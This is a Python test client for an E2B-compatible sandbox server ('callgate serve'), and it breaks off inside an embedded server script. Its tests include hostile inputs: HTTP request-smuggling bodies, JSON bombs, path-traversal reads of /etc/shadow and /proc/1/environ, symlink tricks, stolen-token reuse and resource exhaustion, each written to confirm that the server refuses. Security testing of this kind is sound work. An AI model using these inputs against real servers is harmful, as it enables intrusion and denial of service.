#!/usr/bin/python3
"""Speaks the protocol of E2B to callgate serve, without any library of others. Usage: e2b-client.py CASE [ARGUMENT]."""

import base64
import concurrent.futures
import glob
import gzip
import hashlib
import http.client
import json
import os
import re
import socket
import struct
import sys
import threading
import time
import urllib.parse
from typing import Any, Dict, Iterator, List, Optional, Set, Tuple

ADDRESS = os.environ["SERVE_ADDRESS"]
KEY = os.environ["SERVE_KEY"]
ENVD, INTERPRETER = 49983, 49999


class UnixConnection(http.client.HTTPConnection):
    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(self.timeout)
        self.sock.connect(ADDRESS)


def connection(timeout: float = 60) -> http.client.HTTPConnection:
    if ADDRESS.startswith("/"):
        return UnixConnection("localhost", timeout=timeout)
    host, port = ADDRESS.rsplit(":", 1)
    return http.client.HTTPConnection(host, int(port), timeout=timeout)


def raw() -> socket.socket:
    made = connection()
    made.connect()
    return made.sock


def call(method: str, path: str, body: Any = None, headers: Optional[Dict[str, str]] = None) -> Tuple[int, Any]:
    with_key = {"X-API-Key": KEY} if headers is None else headers
    made = connection()
    data = body if isinstance(body, (bytes, type(None))) else json.dumps(body).encode()
    made.request(method, path, data, {"Content-Type": "application/json", **with_key})
    answer = made.getresponse()
    text = answer.read()
    made.close()
    try:
        return answer.status, json.loads(text) if text else None
    except ValueError:
        return answer.status, text


class Box:
    """A sandbox."""

    def __init__(self, **wish: Any) -> None:
        status, answer = call("POST", "/sandboxes", {"templateID": "base", "timeout": 120, **wish})
        assert status == 201, (status, answer)
        self.id = answer["sandboxID"]
        self.headers = {"E2b-Sandbox-Id": self.id, "E2b-Sandbox-Port": str(ENVD)}
        if "envdAccessToken" in answer:
            self.headers["X-Access-Token"] = answer["envdAccessToken"]
        self.answer = answer

    def rpc(self, method: str, message: Any) -> Tuple[int, Any]:
        return call("POST", "/" + method, message, self.headers)

    def stream(self, method: str, message: Any, **headers: str) -> Iterator[Any]:
        text = json.dumps(message).encode()
        made = connection()
        made.request("POST", "/" + method, struct.pack(">BI", 0, len(text)) + text,
                     {**self.headers, "Content-Type": "application/connect+json", **headers})
        answer = made.getresponse()
        assert answer.status == 200, (answer.status, answer.read())
        while True:
            flags, size = struct.unpack(">BI", answer.read(5))
            yield json.loads(answer.read(size))
            if flags & 2:
                made.close()
                return

    def start(self, command: str, **more: Any) -> Iterator[Any]:
        process = {"cmd": "/bin/bash", "args": ["-c", command], **more.pop("process", {})}
        return self.stream("process.Process/Start", {"process": process, **more})

    def run(self, command: str, **more: Any) -> Tuple[int, bytes, bytes]:
        out: Dict[str, bytes] = {"stdout": b"", "stderr": b""}
        code = None
        for event in self.start(command, stdin=False, **more):
            if event.get("error"):
                raise RuntimeError(event["error"])
            for name, data in event.get("event", {}).get("data", {}).items():
                out[name] += base64.b64decode(data)
            if "end" in event.get("event", {}):
                code = event["event"]["end"]["exitCode"]
        assert code is not None
        return code, out["stdout"], out["stderr"]

    def kill(self) -> None:
        assert call("DELETE", "/sandboxes/" + self.id)[0] == 204


def numbers() -> Dict[str, float]:
    status, text = call("GET", "/metrics")
    assert status == 200
    lines = [line for line in text.decode().splitlines() if not line.startswith("#")]
    return {line.rsplit(" ", 1)[0]: float(line.rsplit(" ", 1)[1]) for line in lines}


# ---- cases ----

def basic() -> None:
    assert call("GET", "/health", headers={})[0] == 200
    box = Box(metadata={"a": "1&2"}, envVars={"GLOBAL": "g"})
    assert box.run("echo out; echo err >&2; pwd; echo $GLOBAL$MINE; exit 3",
                   process={"envs": {"MINE": "m"}}) == (3, b"out\n/home/user\ngm\n", b"err\n")
    assert box.run("cat")[0] == 0 and box.run("kill -9 $$")[0] == -1
    assert box.run("pwd", process={"cwd": "/tmp"})[1] == b"/tmp\n"
    status, detail = call("GET", "/sandboxes/" + box.id)
    assert status == 200 and detail["state"] == "running" and detail["metadata"] == {"a": "1&2"}, detail
    other = Box(metadata={"a": "2"})
    assert [x["sandboxID"] for x in call("GET", "/v2/sandboxes?metadata=a%3D1%2525262")[1]] == [box.id]
    assert [x["sandboxID"] for x in call("GET", "/sandboxes")[1]] == [other.id, box.id]
    assert [x["sandboxID"] for x in call("GET", "/v2/sandboxes?limit=1&nextToken=1")[1]] == [box.id]
    assert call("GET", "/v2/sandboxes?state=paused") == (200, [])
    other.kill()
    assert call("GET", "/sandboxes/" + other.id)[0] == 404
    assert other.rpc("process.Process/List", {}) == (
        502, {"message": "The sandbox was not found", "sandboxId": other.id, "code": 502})
    # a program that is left alone, found again, fed, and ended
    first = box.start("cat; echo end")
    pid = next(first)["event"]["start"]["pid"]
    listed = box.rpc("process.Process/List", {})[1]["processes"]
    assert [x["pid"] for x in listed] == [pid], listed
    first.close()
    second = box.stream("process.Process/Connect", {"process": {"selector": "x", "pid": pid}})
    assert next(second)["event"]["start"]["pid"] == pid
    data = base64.b64encode(b"hello").decode()
    assert box.rpc("process.Process/SendInput", {"process": {"pid": pid}, "input": {"stdin": data}}) == (200, {})
    assert box.rpc("process.Process/CloseStdin", {"process": {"pid": pid}}) == (200, {})
    events = list(second)
    text = b"".join(base64.b64decode(e["event"]["data"]["stdout"]) for e in events if "data" in e.get("event", {}))
    assert text == b"helloend\n" and events[-1] == {}, events
    sleeper = box.start("sleep 60")
    pid = next(sleeper)["event"]["start"]["pid"]
    assert box.rpc("process.Process/SendSignal", {"process": {"pid": pid}, "signal": "SIGNAL_SIGTERM"})[0] == 200
    assert list(sleeper)[-2]["event"]["end"]["status"].startswith("signal"), "SIGTERM"
    assert box.rpc("process.Process/SendSignal", {"process": {"pid": pid}, "signal": 9})[0] == 404
    late = list(box.stream("process.Process/Start", {"process": {"cmd": "/bin/sleep", "args": ["60"]}},
                           **{"Connect-Timeout-Ms": "300"}))
    assert late[-1]["error"]["code"] == "deadline_exceeded", late
    size = {"size": {"cols": 100, "rows": 30}}
    terminal = box.stream("process.Process/Start", {"process": {"cmd": "/bin/bash", "args": ["-i"]}, "pty": size})
    pid = next(terminal)["event"]["start"]["pid"]
    size["size"]["cols"] = 90
    assert box.rpc("process.Process/Update", {"process": {"pid": pid}, "pty": size}) == (200, {})
    typed = base64.b64encode(b"stty size; tty; exit\n").decode()
    assert box.rpc("process.Process/SendInput", {"process": {"pid": pid}, "input": {"pty": typed}}) == (200, {})
    text = b"".join(base64.b64decode(e["event"]["data"]["pty"]) for e in terminal if "data" in e.get("event", {}))
    assert b"30 90\r\n/dev/pts/" in text, text
    status, metrics = call("GET", "/sandboxes/%s/metrics" % box.id)
    assert status == 200 and metrics[0]["memUsed"] > 0 and metrics[0]["diskTotal"] == 2 << 30, metrics
    assert call("GET", "/sandboxes/%s/metrics?start=1&end=2" % box.id) == (200, [])
    pings = [e for e in box.stream("process.Process/Start", {"process": {"cmd": "/bin/sleep", "args": ["1.5"]}},
                                   **{"Keepalive-Ping-Interval": "1"}) if "keepalive" in e.get("event", {})]
    assert pings, "no keepalive"
    box.kill()


def signed(box: Box, path: str, operation: str, end: str = "") -> str:
    text = ":".join([path, operation, "", box.headers["X-Access-Token"]] + ([end] if end else []))
    digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
    query = {"path": path, "signature": "v1_" + digest, **({"signature_expiration": end} if end else {})}
    return "/files?" + urllib.parse.urlencode(query)


def form(*files: Tuple[str, bytes]) -> Tuple[bytes, str]:
    head = b'--border\r\nContent-Disposition: form-data; name="file"; filename="%s"\r\n\r\n%s\r\n'
    parts = [head % (name.encode(), data) for name, data in files]
    return b"".join(parts) + b"--border--\r\n", "multipart/form-data; boundary=border"


def files() -> None:
    box = Box()

    def put(path: str, data: bytes, **headers: str) -> Tuple[int, Any]:
        kind = {"Content-Type": "application/octet-stream", **headers}
        return call("POST", "/files?" + urllib.parse.urlencode({"path": path}), data, {**box.headers, **kind})

    def get(path: str) -> Tuple[int, Any]:
        return call("GET", "/files?" + urllib.parse.urlencode({"path": path}), headers=box.headers)

    assert put("a/b", b"content") == (200, [{"name": "b", "path": "/home/user/a/b", "type": "file"}])
    assert get("~/a/b") == (200, b"content") and box.run("cat a/b")[1] == b"content"
    big = bytes(range(256)) * 20000
    assert put("/tmp/big", big)[0] == 200 and get("/tmp/big")[1] == big
    assert put("packed", gzip.compress(b"plain" * 1000), **{"Content-Encoding": "gzip"})[0] == 200
    assert get("packed")[1] == b"plain" * 1000
    for bad in (b"no gzip", gzip.compress(big)[:-9]):
        assert put("bad", bad, **{"Content-Encoding": "gzip"})[0] == 400, bad[:9]
    many = [("f%d" % i, b"x" * i) for i in range(60)] + [("/home/user/big", big)]
    body, kind = form(*many)
    status, entries = call("POST", "/files", body, {**box.headers, "Content-Type": kind})
    assert status == 200 and [e["name"] for e in entries] == [os.path.basename(n) for n, _ in many], entries
    assert get("f59")[1] == b"x" * 59 and get("f0")[1] is None and get("big")[1] == big
    status, entries = put("meta", b"", **{"X-Metadata-Author": "me"})
    assert box.rpc("filesystem.Filesystem/Stat", {"path": "meta"})[1]["entry"]["metadata"] == {"author": "me"}
    # directories
    assert box.rpc("filesystem.Filesystem/MakeDir", {"path": "d/e"})[0] == 200
    assert box.rpc("filesystem.Filesystem/MakeDir", {"path": "d/e"})[1]["code"] == "already_exists"
    entries = box.rpc("filesystem.Filesystem/ListDir", {"path": "d", "depth": 3})[1]["entries"]
    assert [(e["path"], e["type"]) for e in entries] == [("/home/user/d/e", "FILE_TYPE_DIRECTORY")], entries
    assert box.rpc("filesystem.Filesystem/Move", {"source": "a/b", "destination": "d/b"})[1]["entry"]["size"] == "7"
    assert box.rpc("filesystem.Filesystem/Stat", {"path": "a/b"})[1]["code"] == "not_found"
    assert box.run("mkdir -p tree/sub /tmp/outside; touch /tmp/outside/kept $'tree/\\xff'; "
                   "ln -s /tmp/outside tree/sub/l")[0] == 0
    entries = box.rpc("filesystem.Filesystem/ListDir", {"path": "tree", "depth": 9})[1]["entries"]
    assert [(e["name"], e.get("symlinkTarget")) for e in entries] == [
        ("sub", None), ("l", "/tmp/outside"), ("\ufffd", None)], entries
    assert entries[1]["type"] == "FILE_TYPE_DIRECTORY" and entries[0]["permissions"] == "drwxr-xr-x", entries
    assert re.fullmatch(r"\d{4}-.*T.*\.\d{9}Z", entries[0]["modifiedTime"]), entries
    assert {e["owner"] for e in entries} == {"user"}, entries
    assert box.rpc("filesystem.Filesystem/Move", {"source": "tree", "destination": "/tmp/t/tree"})[0] == 200
    assert box.run("ls /tmp/t/tree/sub/l; test ! -e tree")[:2] == (0, b"kept\n")
    assert box.rpc("filesystem.Filesystem/Remove", {"path": "/tmp/t"}) == (200, {})
    assert box.run("test ! -e /tmp/t && ls /tmp/outside")[:2] == (0, b"kept\n"), "removed through a link"
    # watches
    watcher = box.rpc("filesystem.Filesystem/CreateWatcher", {"path": "d", "recursive": True})[1]["watcherId"]
    stream = box.stream("filesystem.Filesystem/WatchDir", {"path": "d", "includeEntry": True})
    assert next(stream) == {"start": {}}
    put("d/new", b"1")
    event = next(stream)["filesystem"]
    assert event["name"] == "new" and event["type"] == "EVENT_TYPE_CREATE" and event["entry"]["name"] == "new", event
    put("d/e/deep", b"1")
    events: List[Any] = []
    end = time.monotonic() + 60
    while "e/deep" not in [e["name"] for e in events]:
        assert time.monotonic() < end, events
        events += box.rpc("filesystem.Filesystem/GetWatcherEvents", {"watcherId": watcher})[1]["events"]
    assert box.rpc("filesystem.Filesystem/RemoveWatcher", {"watcherId": watcher}) == (200, {})
    assert box.rpc("filesystem.Filesystem/GetWatcherEvents", {"watcherId": watcher})[1]["code"] == "not_found"
    # what is not there, and what may not be
    for path in ("nothing", "/etc/shadow", "../../etc/shadow", "/proc/1/environ"):
        assert get(path)[0] in (403, 404), path
    assert get("d")[0] == 400 and put("d", b"x")[0] == 400
    assert put("/usr/bin/x", b"x")[0] == 403 and put("/new/x", b"x")[0] == 403
    box.run("ln -s /etc/shadow link; ln -s /usr/bin/planted out; mkfifo fifo")
    assert get("link")[0] == 404 and put("out", b"x")[0] == 403 and get("fifo")[0] == 400
    deep = "/tmp/" + "a/" * 100000 + "b"
    assert box.rpc("filesystem.Filesystem/MakeDir", {"path": deep})[1]["code"] == "invalid_argument"
    answer = box.rpc("filesystem.Filesystem/Move", {"source": "big", "destination": deep})[1]
    assert answer["code"] == "invalid_argument", answer
    assert box.rpc("filesystem.Filesystem/Remove", {"path": "d"}) == (200, {})
    assert box.rpc("filesystem.Filesystem/Stat", {"path": "d"})[1]["code"] == "not_found"
    # addresses that are signed
    assert call("GET", signed(box, "big", "read"), headers={}) == (200, big)
    soon, late = str(int(time.time()) + 60), str(int(time.time()) - 60)
    assert call("GET", signed(box, "big", "read", soon), headers={})[0] == 200
    assert call("GET", signed(box, "big", "read", late), headers={}) == (
        401, {"code": 401, "message": "signature is already expired"})
    assert call("POST", signed(box, "signed", "write"), *[*form(("x", b"s"))][:1],
                headers={"Content-Type": form()[1]})[0] == 200
    assert get("signed")[1] == b"s"
    for address in (signed(box, "big", "write"), signed(box, "big", "read").replace("big", "packed"),
                    signed(box, "big", "read", late).replace(late, soon), "/files?path=big"):
        assert call("GET", address, headers={})[0] == 401, address
    assert call("GET", "/files?path=big&username=root", headers=box.headers)[0] == 401
    # more than the sandbox may have on its disk
    assert put("huge", b"x", **{"Content-Length": str(1 << 40)})[0] == 507
    box.kill()


def run_code(box: Box, code: str, **more: Any) -> List[Any]:
    """The events of code in an interpreter."""
    made = connection()
    made.request("POST", "/execute", json.dumps({"code": code, **more}),
                 {**box.headers, "E2b-Sandbox-Port": str(INTERPRETER), "Content-Type": "application/json"})
    events = [json.loads(line) for line in made.getresponse().read().splitlines()]
    made.close()
    assert events[-1]["type"] == "end_of_execution", events
    return events


def contexts() -> None:
    box = Box(templateID="code-interpreter-v1", envVars={"GLOBAL": "g"})
    headers = {**box.headers, "E2b-Sandbox-Port": str(INTERPRETER)}

    def execute(code: str, **more: Any) -> Tuple[List[str], List[str], Optional[str]]:
        events = run_code(box, code, **more)
        texts = {kind: [e["text"] for e in events if e["type"] == kind] for kind in ("stdout", "result")}
        return texts["stdout"], texts["result"], next((e["name"] for e in events if e["type"] == "error"), None)

    assert execute("x = 1; x") == ([], ["1"], None) and execute("x += 1; 'a%d' % x") == ([], ["a2"], None)
    assert execute("print(1); 1/0") == (["1\n"], [], "ZeroDivisionError")
    assert execute("import os; os.environ['GLOBAL'] + os.environ['A']", env_vars={"A": "a"})[1] == ["ga"]
    assert execute("import os; os.getcwd()")[1] == ["/home/user"]
    listed = call("GET", "/contexts", headers=headers)[1]
    assert [c["language"] for c in listed] == ["python", "javascript"], listed
    # a context of another sandbox
    other = Box(templateID="code-interpreter-v1")
    theirs = {**other.headers, "E2b-Sandbox-Port": str(INTERPRETER)}
    mine = listed[0]["id"]
    assert call("POST", "/execute", {"code": "x", "context_id": mine}, theirs)[0] == 404
    assert call("POST", "/contexts/%s/restart" % mine, {}, theirs)[0] == 404
    assert call("DELETE", "/contexts/" + mine, headers=theirs)[0] == 404
    other.kill()
    status, made = call("POST", "/contexts", {"cwd": "/tmp"}, headers)
    assert status == 200 and made["cwd"] == "/tmp" and made["language"] == "python", made
    assert execute("x", context_id=made["id"])[2] == "NameError"
    execute("y = 1", context_id=made["id"])
    assert call("POST", "/contexts/%s/restart" % made["id"], {}, headers)[0] == 200
    assert execute("y", context_id=made["id"])[2] == "NameError"
    assert call("DELETE", "/contexts/" + made["id"], headers=headers)[0] == 200
    assert call("DELETE", "/contexts/" + made["id"], headers=headers)[0] == 404
    for wish, status in (({"code": 1}, 422), ({"code": "1", "language": "cobol"}, 400),
                         ({"code": "1", "context_id": "x"}, 404),
                         ({"code": "1", "context_id": listed[0]["id"], "language": "python"}, 400)):
        assert call("POST", "/execute", wish, headers)[0] == status, wish
    traffic = {**headers, "X-Access-Token": "", "E2B-Traffic-Access-Token": box.answer["trafficAccessToken"]}
    assert call("GET", "/contexts", headers=traffic)[0] == 200
    # a client that hangs up interrupts its code; the interpreter is free for the next, and keeps its variables
    for _ in range(4): # on a busy machine an interrupt may take longer than it is given, and the interpreter is ended
        client = connection()
        client.request("POST", "/execute", json.dumps({"code": "import time; time.sleep(60)"}), headers)
        client.getresponse()
        client.close()
        if execute("x")[1] == ["2"]:
            break
        execute("x = 2")
    else:
        raise AssertionError("the code was not interrupted, or the interpreter not kept")
    # output that is not read makes the code wait; the server does not keep it
    client = connection()
    client.request("POST", "/execute", json.dumps({"code": "while True: print('x' * 10000)"}), headers)
    time.sleep(1)
    client.close()
    assert execute("x")[1] == ["2"]
    assert execute("import os; os._exit(1)")[2] == "InterpreterDied" and execute("1 + 1")[1] == ["2"]
    box.kill()


def refusals() -> None:
    box = Box()
    bad = {**box.headers, "X-Access-Token": "0" * 64}
    assert call("POST", "/process.Process/List", {}, bad)[1]["code"] == "unauthenticated"
    assert call("GET", "/envs", headers=bad)[0] == 401
    assert call("GET", "/contexts", headers={**bad, "E2b-Sandbox-Port": str(INTERPRETER)})[0] == 401
    assert call("GET", "/health", headers={**box.headers, "E2b-Sandbox-Port": "8080"})[0] == 502
    for key in ("", "x" * 20, KEY[:-1], KEY + "x", "\xff" * 40):
        for path in ("/sandboxes", "/sandboxes/" + box.id, "/metrics"):
            assert call("GET", path, headers={"X-API-Key": key})[0] == 401, (key, path)
    assert call("GET", "/sandboxes", headers={})[0] == 401
    for path in ("fork", "snapshots"):
        status, answer = call("POST", "/sandboxes/%s/%s" % (box.id, path), {})
        assert status == 501 and answer["code"] == 501 and answer["message"], (path, answer)
    for wish in ({"templateID": "../base"}, {"templateID": "nothing"}):
        assert call("POST", "/sandboxes", wish)[0] == 404, wish
    for wish in ({"timeout": -1}, {"timeout": "x"}, {"metadata": {"a": 1}}, {"envVars": {"a=b": "x"}},
                 {"volumeMounts": [{"name": "v", "path": "/v"}]}, {"network": {"allowOut": ["x"]}},
                 {"metadata": {str(i): "x" for i in range(100)}}):
        status, answer = call("POST", "/sandboxes", {"templateID": "base", **wish})
        assert status == 400 and answer["message"], (wish, answer)
    assert call("POST", "/templates", {})[0] == 501 and call("GET", "/nothing")[0] == 404
    assert call("GET", "/templates/aliases/base")[0] == 200
    assert call("GET", "/templates/aliases/other")[0] == 404
    for message in ({}, {"process": {"cmd": 1}}, {"process": {"cmd": "x", "args": [1]}},
                    {"process": {"cmd": "/bin/true", "envs": {"a=b": "c"}}}, {"process": {"cmd": "/nowhere"}},
                    {"process": {"cmd": "/bin/true", "cwd": "/nowhere"}}):
        events = list(box.stream("process.Process/Start", message))
        assert events[-1]["error"]["code"] == "invalid_argument", (message, events)
    events = list(box.start("true", process={"cmd": "/etc/passwd"}))
    assert events[-1]["error"]["code"] == "permission_denied", events
    root = base64.b64encode(b"root:").decode()
    events = list(box.stream("process.Process/Start", {"process": {"cmd": "/bin/true"}}, Authorization="Basic " + root))
    assert events[-1]["error"]["code"] == "unauthenticated", events
    assert box.rpc("process.Process/Nothing", {})[0] == 501
    binary = {**box.headers, "Content-Type": "application/proto"}
    assert call("POST", "/process.Process/List", b"\x00", binary)[0] == 415
    box.kill()


def hostile() -> None:
    """Clients that mean harm: the server answers others all the while, and keeps nothing of them."""
    box = Box()
    assert box.run("ulimit -Sn")[1] == os.environ["SERVE_FILES"].encode() + b"\n", box.run("ulimit -Sn")
    # JSON that is deep, long, double, not JSON
    for bomb in (b"[" * 4000000, b'{"a":' * 100000, b"{" + b'"a":1,' * 500000 + b'"b":1}', b"\xff" * 100000, b"null"):
        assert call("POST", "/sandboxes", bomb)[0] == 400
        assert call("POST", "/process.Process/List", bomb, box.headers)[0] == 400
    assert call("POST", "/sandboxes", b" " * (9 << 20))[0] == 413
    made = raw()
    made.sendall(b"POST /sandboxes HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY.encode() +
                 b"\r\nContent-Length: 99999999999999\r\n\r\n" + b"x" * 100000)
    made.close()
    # headers that are too large, or none at all
    made = raw()
    try:
        made.sendall(b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"x" * 1000) for i in range(1000)))
        assert made.recv(100) == b"" or True
    except OSError:
        pass
    made.close()
    # a body whose end two readers could see at different places: the rest of it is no other request
    hidden = b"GET /sandboxes HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY.encode() + b"\r\n\r\n"
    for lengths in (b"Content-Length: 0\r\nContent-Length: %d" % len(hidden), b"Transfer-Encoding: gzip, chunked",
                    b"Content-Length: %d\r\nTransfer-Encoding: chunked" % (len(hidden) + 5)):
        made = raw()
        made.settimeout(20)
        made.sendall(b"POST /sandboxes HTTP/1.1\r\nHost: x\r\n" + lengths + b"\r\n\r\n0\r\n\r\n" + hidden)
        text = b""
        try:
            while got := made.recv(1000):
                text += got
        except ConnectionResetError:
            pass  # the rest was not read
        assert text.startswith(b"HTTP/1.1 400 ") and text.count(b"HTTP/1.1 ") == 1, (lengths, text)
        made.close()
    # a program whose arguments are too long for the sandbox
    for argument, count in (("x" * 1000, 4000), ("x" * 150000, 1)):
        events = list(box.stream("process.Process/Start", {"process": {"cmd": "true", "args": [argument] * count}}))
        assert events[-1]["error"]["code"] == "invalid_argument", events
    # envelopes that lie about their length, are compressed, end too early
    for envelope in (b"\0\xff\xff\xff\xff{}", b"\x01\0\0\0\2{}", b"\0\0\0", b"", b"\2\0\0\0\2{}"):
        made = connection()
        made.request("POST", "/process.Process/Start", envelope,
                     {**box.headers, "Content-Type": "application/connect+json"})
        assert b"invalid_argument" in made.getresponse().read(), envelope
        made.close()
    # a client that closes its end in the middle of a body does not keep its connection
    for path in ("/sandboxes", "/process.Process/List", "/files?path=half"):
        made = raw()
        head = "".join("%s: %s\r\n" % pair for pair in
                       {**({} if path == "/sandboxes" else box.headers), "X-API-Key": KEY}.items())
        made.sendall(("POST %s HTTP/1.1\r\nHost: x\r\n%sContent-Length: 99\r\n\r\n" % (path, head)).encode())
        made.shutdown(socket.SHUT_WR)
        made.close()
    # ... nor in the middle of a header, of the first or of a later request
    for text in (b"GET /", b"GET /health HTTP/1.1\r\nHost: x\r\n\r\nGET /"):
        made = raw()
        made.settimeout(15)
        made.sendall(text)
        made.shutdown(socket.SHUT_WR)
        while made.recv(1000):
            pass
        made.close()
    end = time.monotonic() + 60
    while numbers()["callgate_connections"] > 1:
        assert time.monotonic() < end, "connections of clients that are gone"
        time.sleep(0.05)
    # clients that stop in the middle: of a header, of a body, half-closed, and while a program writes
    idle: List[socket.socket] = []
    for text in (b"", b"GET /", b"POST /sandboxes HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY.encode() +
                 b"\r\nContent-Length: 100\r\n\r\n{"):
        for _ in range(50):
            made = raw()
            made.sendall(text)
            idle.append(made)
    for made in idle[::2]:
        made.shutdown(socket.SHUT_WR)
    writer = box.start("yes $(printf %0999d)")
    next(writer)
    before = time.monotonic()
    for _ in range(20):
        assert box.run("echo x")[1] == b"x\n"
    assert time.monotonic() - before < 60, "slow for others"
    writer.close()
    for made in idle:
        made.close()
    # guesses of ids, and of processes of others
    other = Box()
    pid = next(other.start("sleep 60"))["event"]["start"]["pid"]
    for guess in (box.id[:-1], box.id + "a", "", "i" * 20, "../" + box.id, box.id.upper()):
        assert call("POST", "/process.Process/List", {}, {**box.headers, "E2b-Sandbox-Id": guess})[0] in (401, 404, 502)
    answer = box.rpc("process.Process/SendSignal", {"process": {"pid": pid + 1000}, "signal": 9})
    assert answer[0] == 404
    # the output of a program of another
    secret = other.start("echo secret; sleep 60", tag="secret")
    next(secret)
    events = list(box.stream("process.Process/Connect", {"process": {"tag": "secret"}}))
    assert events[-1]["error"]["code"] == "not_found" and "secret" not in str(events[:-1]), events
    stolen = {**other.headers, "X-Access-Token": box.headers["X-Access-Token"]}
    assert call("POST", "/process.Process/List", {}, stolen)[1]["code"] == "unauthenticated"
    assert box.run("cat /proc/*/cmdline | tr '\\0' ' '; ls /tmp")[1].count(b"sleep 60") == 0, "sees programs of another"
    # more programs than a sandbox may have
    streams = [box.start("sleep 60") for _ in range(300)]
    firsts = [next(stream) for stream in streams]
    refused = [first for first in firsts if "error" in first]
    assert 30 <= len(refused) <= 300, len(refused)
    box.kill()
    other.kill()


def bounds() -> None:
    """What the server keeps for clients that do not take it is bounded."""
    box = Box()
    # requests in line, when the program closes its stdin before it has taken the first one
    stream = box.start("read x; exec 0<&-; echo closed; sleep 60", process={"more": "x" * 1000})
    selector = {"process": {"pid": next(stream)["event"]["start"]["pid"]}}
    listed = box.rpc("process.Process/List", {})[1]["processes"][0]["config"]
    assert sorted(listed) == ["args", "cmd"], listed
    codes: List[Any] = []
    data = base64.b64encode(b"line\n" * 200000).decode()

    def give() -> None:
        codes.append(box.rpc("process.Process/SendInput", {**selector, "input": {"stdin": data}})[1].get("code"))

    threads = [threading.Thread(target=give) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert codes == ["failed_precondition"] * 3, codes
    stream.close()
    # a client that reads, beside one that does not: neither gets more than the other has room for
    slow = box.start("yes $(printf %0999d)")
    message = json.dumps({"process": {"pid": next(slow)["event"]["start"]["pid"]}}).encode()
    fast = connection(timeout=1.5)
    fast.request("POST", "/process.Process/Connect", struct.pack(">BI", 0, len(message)) + message,
                 {**box.headers, "Content-Type": "application/connect+json"})
    answer, got = fast.getresponse(), 0
    try:
        while got < 60 << 20:
            got += len(answer.read1(1 << 16))
    except TimeoutError:
        pass
    assert got < 60 << 20, "a slow client does not make the program wait"
    slow.close()
    fast.close()
    # events that are not fetched
    box.run("mkdir watched")
    wish = {"path": "watched", "includeEntry": True}
    watcher = {"watcherId": box.rpc("filesystem.Filesystem/CreateWatcher", wish)[1]["watcherId"]}
    box.run("cd watched; p=$(printf %0240d); for n in {1..4}; do touch $p$n{1..200}; done")
    time.sleep(1)
    events = box.rpc("filesystem.Filesystem/GetWatcherEvents", watcher)[1]["events"]
    assert 0 < len(json.dumps(events, separators=(",", ":"))) <= 1050 << 10, len(events)
    box.kill()


def few_files() -> None:
    """A server whose limit of open files is 256: what would take more is refused, and others are answered."""
    box, other = Box(), Box()
    started = 0
    while "error" not in (first := next(box.start("sleep 60"))):
        started += 1
    assert first["error"]["code"] == "resource_exhausted" and "open files" in first["error"]["message"], first
    assert started > 10, started
    plain = {**other.headers, "Content-Type": "application/octet-stream"}
    for method, content, headers in (("POST", b"x", plain), ("GET", None, other.headers)):
        status, answer = call(method, "/files?path=x", content, headers)
        assert status == 429 and "open files" in answer["message"], (method, status, answer)
    assert other.rpc("filesystem.Filesystem/Stat", {"path": "/"})[1]["code"] == "resource_exhausted"
    assert call("GET", "/", headers={**other.headers, "E2b-Sandbox-Port": "8080"})[0] == 429
    status = 0
    for _ in range(10):  # the descriptors that are left are too few for a program, and may do for some sandboxes
        status, answer = call("POST", "/sandboxes", {"templateID": "base"})
        if status != 201:
            break
    assert status == 429 and "open files" in answer["message"], (status, answer)
    # more clients than there may be: the last of them waits until others have gone
    idle = [raw() for _ in range(100)]
    statuses: List[int] = []
    last = threading.Thread(target=lambda: statuses.append(call("GET", "/health")[0]))
    last.start()
    for made in idle:
        made.close()
    last.join()
    assert statuses == [200]
    box.kill()
    assert other.run("echo x")[1] == b"x\n", "after it"
    other.kill()


def spares_are_lacking() -> None:
    """A server whose limit of open files is reached makes a spare as soon as it can, without a client who asks."""

    def sessions() -> Set[str]:
        return set(glob.glob(os.environ["TMPDIR"] + "/callgate-*/session-*"))

    box = Box()
    while "error" not in next(box.start("sleep 60")):
        pass
    made = [box.id]
    for _ in range(10):
        status, answer = call("POST", "/sandboxes", {"templateID": "spared"})
        if status != 201:
            break
        made.append(answer["sandboxID"])
    assert status == 429 and "open files" in answer["message"], (status, answer)
    time.sleep(0.1)  # so that it has tried to make a spare
    before = sessions()
    for one in made:
        assert call("DELETE", "/sandboxes/" + one)[0] == 204
    end = time.monotonic() + 60
    while sessions() <= before:
        assert time.monotonic() < end, "no spare"
        time.sleep(0.02)


def crowd(count: str, clients: str) -> None:
    """Many creates at once: as many sandboxes as there may be, and 429 for all others."""
    left = [int(count)]
    statuses: Dict[int, int] = {}
    lock = threading.Lock()

    def work() -> None:
        while True:
            with lock:
                if left[0] == 0:
                    return
                left[0] -= 1
            status, _ = call("POST", "/sandboxes", {"templateID": "base", "timeout": 300})
            with lock:
                statuses[status] = statuses.get(status, 0) + 1

    threads = [threading.Thread(target=work) for _ in range(int(clients))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(statuses))


def fair(other: str) -> None:
    """A server with room for one sandbox: keys take turns, although one of them has asked first, and more often."""
    order: List[str] = []
    threads: List[threading.Thread] = []

    def ask(name: str, key: str) -> None:
        status, answer = call("POST", "/sandboxes", {"templateID": "base"}, {"X-API-Key": key})
        assert status == 201, answer
        order.append(name)
        assert call("DELETE", "/sandboxes/" + answer["sandboxID"], headers={"X-API-Key": key})[0] == 204

    def waiting(key: str) -> int:
        lines = call("GET", "/metrics", headers={"X-API-Key": key})[1].decode().split("\n")
        return int(next(line for line in lines if line.startswith("callgate_waiting{")).split()[1])

    holder = Box()
    for name, key, count in (("first", KEY, 3), ("other", other, 2)):
        for i in range(count):
            threads.append(threading.Thread(target=ask, args=(name, key)))
            threads[-1].start()
            while waiting(key) != i + 1:
                time.sleep(0.01)
    holder.kill()
    for thread in threads:
        thread.join()
    assert order == ["other", "first", "other", "first", "first"], order


SERVER = r"""
import base64, hashlib, socket, sys, threading
def serve(made):
    data = b""
    while b"\r\n\r\n" not in data:
        data += made.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    path = head.split()[1]
    if path.startswith(b"/echo"):
        while not body.endswith(b"END" if b"chunked" not in head else b"0\r\n\r\n"):
            body += made.recv(65536)
        body = head + b"\n\n" + body
